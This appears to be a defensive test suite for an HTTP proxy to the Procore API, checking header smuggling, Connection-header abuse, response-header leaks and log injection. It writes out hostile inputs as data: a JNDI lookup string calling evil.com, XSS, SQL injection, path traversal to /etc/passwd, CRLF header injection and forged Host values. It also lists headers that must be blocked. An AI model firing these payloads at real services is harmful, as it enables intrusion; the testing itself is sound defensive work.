// Attacks by header: what must not be sent to Procore, what must not come back, and what no caller may remove, double or replace.
import fc from 'fast-check'
import t, { type Test } from 'tap'
import { attack, getOf, head, UNLIMITED } from '../fixtures/attacker.ts'
import { ACME, type Rig, startRig } from '../fixtures/proxy.ts'
import { words } from '../fixtures/words.ts'

const PATH = '/acme/rest/v1.0/echo'
const start = (t: Test): Promise<Rig> => startRig(t, { fake: UNLIMITED! })

/** Every name of CONTRACT section 5, with one of each wildcard. */
const NEVER_UP = [
  ...words`Authorization Cookie Cookie2 Forwarded X-Real-IP Referer TE Trailer Keep-Alive`,
  ...['Proxy-Authorization', 'Proxy-Authenticate', 'Proxy-Connection', 'Proxy-Status', 'Proxy-Anything'],
  ...['X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Forwarded-Port', 'X-Forwarded-Uri'],
  ...['Sec-Fetch-Mode', 'Sec-Fetch-Dest', 'Sec-CH-UA', 'Sec-GPC', 'Sec-WebSocket-Key'],
  ...words`Procore-Proxy-Key Procore-Proxy-Request Procore-Proxy-Company Procore-Proxy-X HTTP2-Settings`,
]
const spellings = (name: string) => [
  name,
  name.toUpperCase().replaceAll('-', '_'),
  name.replace('-', '_').toLowerCase(),
]

const injected = (rig: Rig) => ({
  authorization: `Bearer ${rig.fake.issuedTokens()[0]}`,
  'procore-company-id': ACME,
  host: new URL(rig.fake.apiUrl).host,
})

/** The name as a CGI-like server reads it. */
const asCgi = (name: string) => name.toLowerCase().replaceAll('_', '-')

/** What the API got besides the injected headers; these are checked to be there once, and ours. */
function othersUp(t: Test, rig: Rig, rawHeaders: readonly string[], what: string): string[] {
  const own = injected(rig)
  const seen = new Map<string, string[]>()
  for (let at = 0; at < rawHeaders.length; at += 2) {
    const name = asCgi(rawHeaders[at]!)
    seen.set(name, [...(seen.get(name) ?? []), rawHeaders[at + 1]!])
  }
  for (const [name, value] of Object.entries(own))
    t.strictSame(seen.get(name), [value], `${what}: one ${name}`)
  t.match(seen.get('via')?.join(), /1\.1 procore-proxy$/, `${what}: Via`)
  // Asked for on behalf of callers that say nothing of it (`upstream.compression`).
  const usual = ['via', 'connection', 'accept-encoding']
  return [...seen.keys()].filter((name) => !(name in own) && !usual.includes(name))
}

// oauth2-proxy CVE-2025-64484: `_` for `-`
t.test('what must not go up does not, in any spelling', async (t) => {
  const rig = await start(t)
  for (const name of NEVER_UP) {
    for (const spelling of spellings(name)) {
      const { verdict, seen } = await attack(rig, getOf(PATH, `${spelling}: smuggled`, 'X-Kept: yes'))
      t.equal(verdict, '200', spelling)
      t.strictSame(othersUp(t, rig, seen[0]!.rawHeaders, spelling), ['x-kept'], `${spelling} stays here`)
    }
  }
})

t.test('bearer, company and Host can’t be added to, replaced or doubled', async (t) => {
  const rig = await start(t)
  for (const lines of [
    ['Authorization: Bearer mine'],
    ['authorization: Basic abc', 'AUTHORIZATION: Bearer mine', 'Authorization_: x'],
    ['HTTP_AUTHORIZATION: Bearer mine'],
    ['procore_company_id: 999'],
    ['Procore_Company-Id: 999', 'PROCORE-COMPANY_ID: 999'],
    [`Procore-Company-Id: ${ACME}`],
    [`procore-company-id: ${ACME}`, `PROCORE-COMPANY-ID: ${ACME}`],
    ['Procore-Company-Id:'],
    ['X-Authorization: Bearer mine'],
  ]) {
    const { verdict, seen } = await attack(rig, getOf(PATH, ...lines))
    t.equal(verdict, '200', lines.join(' '))
    othersUp(t, rig, seen[0]!.rawHeaders, lines.join(' '))
  }
})

// Fabio CVE-2025-48865; CVE-2026-33805’s class
t.test('naming headers in Connection takes off the caller’s own, never the proxy’s', async (t) => {
  const rig = await start(t)
  for (const connection of [
    'close, Authorization, Procore-Company-Id, Host, Via',
    'close,authorization,procore-company-id,host,via',
    'AUTHORIZATION, close',
    'close, procore_company_id',
    'close,,, ,Authorization\t,\tVia',
    'close, "Authorization"',
    'close, Content-Length, Transfer-Encoding, Connection',
    'close, X-Request-Id, Accept, *',
  ]) {
    const { verdict, seen } = await attack(rig, getOf(PATH, `Connection: ${connection}`, 'X-Kept: yes'))
    t.equal(verdict, '200', connection)
    t.strictSame(othersUp(t, rig, seen[0]!.rawHeaders, connection), ['x-kept'])
  }
  const hop = await attack(
    rig,
    getOf(
      PATH,
      'Connection: X-Hop',
      'connection: x-other, X-KEPT-NOT',
      'X-HOP: 1',
      'x-other: 2',
      'X-Kept-Not: 3',
      'X-Kept: yes',
    ),
  )
  t.strictSame(
    othersUp(t, rig, hop.seen[0]!.rawHeaders, 'several lines'),
    ['x-kept'],
    'named headers are hop-by-hop',
  )
  const sent = await attack(
    rig,
    `${head(`POST ${PATH} HTTP/1.1`, 'Host: localhost', 'Connection: close, Content-Length, Content-Type', 'Content-Length: 5')}hello`,
  )
  t.strictSame(
    sent.seen.map(({ body, headers }) => [body, headers['content-length']]),
    [['hello', '5']],
    'the framing stays',
  )
})

t.test('other headers pass as they are, byte for byte, in number and order', async (t) => {
  const rig = await start(t)
  await fc.assert(
    fc.asyncProperty(
      fc.array(
        fc.tuple(
          fc.stringMatching(/^X-[A-Za-z0-9!#$%&'*+.^`|~-]{1,12}$/),
          fc.stringMatching(/^[!-~\x80-\xff]([ -~\x80-\xff]{0,20}[!-~\x80-\xff])?$/),
        ),
        { maxLength: 8 },
      ),
      async (fields) => {
        const mine = fields.filter(([name]) => !/^x-(?:forwarded-|real-ip$|request-id$)/i.test(name))
        const { verdict, seen } = await attack(
          rig,
          getOf(PATH, ...mine.map(([name, value]) => `${name}: ${value}`)),
          { lingerMs: 0 },
        )
        const raw = seen[0]?.rawHeaders ?? []
        const arrived = raw.flatMap((name, at) =>
          at % 2 === 0 && /^X-/.test(name) ? [[name, raw[at + 1]]] : [],
        )
        return verdict === '200' && JSON.stringify(arrived) === JSON.stringify(mine)
      },
    ),
    { numRuns: 100 },
  )
})

const NEVER_BACK: Record<string, string> = {
  'Set-Cookie': 'session=stolen',
  'Set-Cookie2': 'x=stolen',
  'Strict-Transport-Security': 'max-age=31536000; stolen',
  'Alt-Svc': 'h3="stolen:443"',
  'Access-Control-Allow-Origin': '*',
  'Access-Control-Allow-Credentials': 'stolen',
  'Access-Control-Expose-Headers': 'stolen',
  'Keep-Alive': 'timeout=stolen',
  'Service-Worker-Allowed': '/stolen',
  Refresh: '0; url=http://stolen',
  'Clear-Site-Data': '"stolen"',
  'Proxy-Authenticate': 'Basic realm=stolen',
  'Proxy-Authentication-Info': 'stolen',
  'Proxy-Connection': 'stolen',
  'Proxy-Status': 'stolen; error=forged',
  'Procore-Proxy-Error': 'stolen',
  'Procore-Proxy-Company': 'stolen',
  'Procore-Proxy-Environment': 'stolen',
  'Procore-Proxy-Anything': 'stolen',
  Trailer: 'stolen',
  TE: 'stolen',
  Upgrade: 'stolen',
  'X-Hop': 'stolen',
  'X-Other-Hop': 'stolen',
}

t.test('what is not for callers does not come back, and the proxy’s marks can’t be forged', async (t) => {
  const rig = await start(t)
  for (const spell of [
    (name: string) => name,
    (name: string) => name.toLowerCase(),
    (name: string) => name.toUpperCase(),
  ]) {
    rig.fake.faults.clear()
    const lines = Object.entries(NEVER_BACK).map(([name, value]) => `${spell(name)}: ${value}`)
    rig.fake.faults.api.push({
      raw: `${head('HTTP/1.1 200 OK', 'Connection: close, x-hop, X-OTHER-HOP', ...lines, 'X-Kept: yes', 'Content-Length: 2')}ok`,
    })
    const { answers, text } = await attack(rig, getOf(PATH))
    t.equal(answers[0]?.status, 200)
    t.notMatch(text, /stolen|forged|access-control|: \*/i)
    t.strictSame(answers[0]?.values('x-kept'), ['yes'])
    t.strictSame(answers[0]?.values('procore-proxy-company'), ['acme'])
    t.strictSame(answers[0]?.values('procore-proxy-environment'), ['fake'])
    t.equal(answers[0]?.code, undefined)
  }
})

t.test('an answer can’t take the proxy’s own headers off by naming them in Connection', async (t) => {
  const rig = await start(t)
  rig.fake.faults.api.push({
    raw: `${head('HTTP/1.1 200 OK', 'Connection: close, Procore-Proxy-Company, Content-Length, X-Request-Id, Date', 'Content-Length: 2')}ok`,
  })
  const { answers } = await attack(rig, getOf(PATH))
  t.strictSame(answers[0]?.values('procore-proxy-company'), ['acme'])
  t.equal(answers[0]?.body, 'ok')
  t.equal(answers[0]?.values('x-request-id').length, 1)
})

t.test('an X-Request-Id is repeated only where it can do no harm (log injection, CWE-117)', async (t) => {
  const rig = await start(t)
  for (const id of [
    '"><script>alert(1)</script>',
    'a b',
    '{"level":"fatal"}',
    '\x1b[31mred'.replace('\x1b', '%1b'),
    '$' + '{jndi:ldap://evil.com/x}',
    'a'.repeat(129),
    '\xe2\x80\xae reversed',
    "'; DROP TABLE x;--",
    '../../etc/passwd',
    '%0d%0aX-Injected: 1',
    '',
  ]) {
    const refused = await attack(rig, getOf('/nowhere', `X-Request-Id: ${id}`))
    t.equal(refused.verdict, '404 route_unknown')
    t.match(refused.answers[0]?.values('x-request-id')[0], /^[0-9a-f-]{36}$/, `${id} is replaced`)
  }
  for (const line of rig.log()) if (line['msg'] === 'request') t.match(line['reqId'], /^[0-9a-f-]{36}$/)
  const two = await attack(rig, getOf('/nowhere', 'X-Request-Id: one', 'X-Request-Id: two'))
  t.match(two.answers[0]?.values('x-request-id')[0], /^[0-9a-f-]{36}$/, 'nor are two joined')
  const plain = await attack(rig, getOf('/nowhere', 'X-Request-Id: job-7.A_b'))
  t.strictSame(plain.answers[0]?.values('x-request-id'), ['job-7.A_b'])
})

// Node’s maxHeadersCount
t.test(
  'a header that hides behind others is judged and framed as any other; a thousand are refused',
  async (t) => {
    const rig = await start(t)
    for (const count of [990, 1_001, 2_000, 3_000]) {
      const many = Array.from({ length: count }, () => 'a:b')
      for (const [what, hidden] of [
        ['a second Host', ['Host: evil.com']],
        ['a foreign Origin', ['Origin: http://evil.com']],
        ['another company', ['Procore-Company-Id: 999']],
        ['a second length', ['Content-Length: 0', 'Content-Length: 0']],
        ['an upgrade', ['Upgrade: websocket', 'Connection: upgrade']],
      ] as const) {
        const { verdict, seen } = await attack(rig, getOf(PATH, ...many, ...hidden), { patienceMs: 1_000 })
        t.match(verdict, /^4/, `${what} after ${count}`)
        t.equal(seen.length, 0, `${what} after ${count}`)
      }
      for (const [lines, body] of [
        [['Content-Length: 5'], 'hello'],
        [['Transfer-Encoding: chunked'], '5\r\nhello\r\n0\r\n\r\n'],
      ] as const) {
        const { verdict, seen } = await attack(
          rig,
          head(`POST ${PATH} HTTP/1.1`, 'Host: localhost', ...many, ...lines, 'Connection: close') + body,
          { patienceMs: 1_000 },
        )
        t.match(verdict, count < 1_000 ? '200' : /^4/, `${lines[0]} after ${count}`)
        t.strictSame(
          seen.map((each) => each.body),
          count < 1_000 ? ['hello'] : [],
          'the body is not lost',
        )
      }
    }
  },
)
